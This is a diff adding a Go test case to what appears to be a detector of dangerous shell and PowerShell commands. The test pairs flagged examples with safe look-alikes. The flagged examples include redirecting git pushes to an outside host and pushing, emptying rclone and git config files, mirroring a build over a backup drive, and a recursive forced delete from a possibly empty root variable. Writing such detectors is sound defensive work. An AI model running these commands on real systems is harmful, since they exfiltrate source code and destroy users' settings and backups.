@@ -147,3 +147,32 @@ func TestRound40ExportsPoliciesAndStores(t *testing.T) {
 		`rsync -a --ignore-existing dotfiles/ ~/`,
 	})
 }
+
+// A remote's pushes redirected and pushed; Windows: the user's settings
+// emptied or replaced, a build mirrored over a backup drive, a profile
+// walked from an empty variable's drive root.
+func TestRound40WindowsSettingsAndMirrors(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`git remote set-url --push origin https://gitea.devbox-free.net/x/project.git && git push origin main`, CategoryExfiltration, "git-push-everything-elsewhere", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`git remote set-url --push origin no_push`,
+		`git remote set-url origin https://github.com/acme/project.git && git push origin main`,
+	})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`Clear-Content -Path "$env:APPDATA\rclone\rclone.conf"`, CategoryFileDelete, "win-delete-outside", LevelHigh},
+		{`Set-Content -Path $HOME\.gitconfig -Value ''`, CategoryFileDelete, "win-delete-outside", LevelHigh},
+		{`Copy-Item .\settings.json "$env:APPDATA\Code\User\settings.json" -Force`, CategoryFileDelete, "win-delete-outside", LevelHigh},
+		{`robocopy C:\work\project\dist D:\Backups /MIR /R:0 /W:0`, CategoryFileDelete, "win-delete-outside", LevelHigh},
+		{`$root = $env:PROJECT_ROOT; Get-ChildItem "$root\" -Recurse -Force | Remove-Item -Recurse -Force`, CategoryFileDelete, "", LevelCritical},
+	})
+	checkSafe(t, d, ps, []string{
+		`Set-Content $HOME\.wslconfig "[wsl2]` + "`n" + `memory=8GB"`,
+		`Get-Credential | Export-Clixml -Path "$env:USERPROFILE\.acme\staging-cred.xml"`,
+		`Copy-Item .\.npmrc .\backup\.npmrc`,
+		`robocopy C:\work\project\dist D:\deploy\dist /MIR`,
+		`Get-ChildItem "$env:BUILD_DIR\out" -Recurse | Remove-Item -Recurse -Force -WhatIf`,
+	})
+}
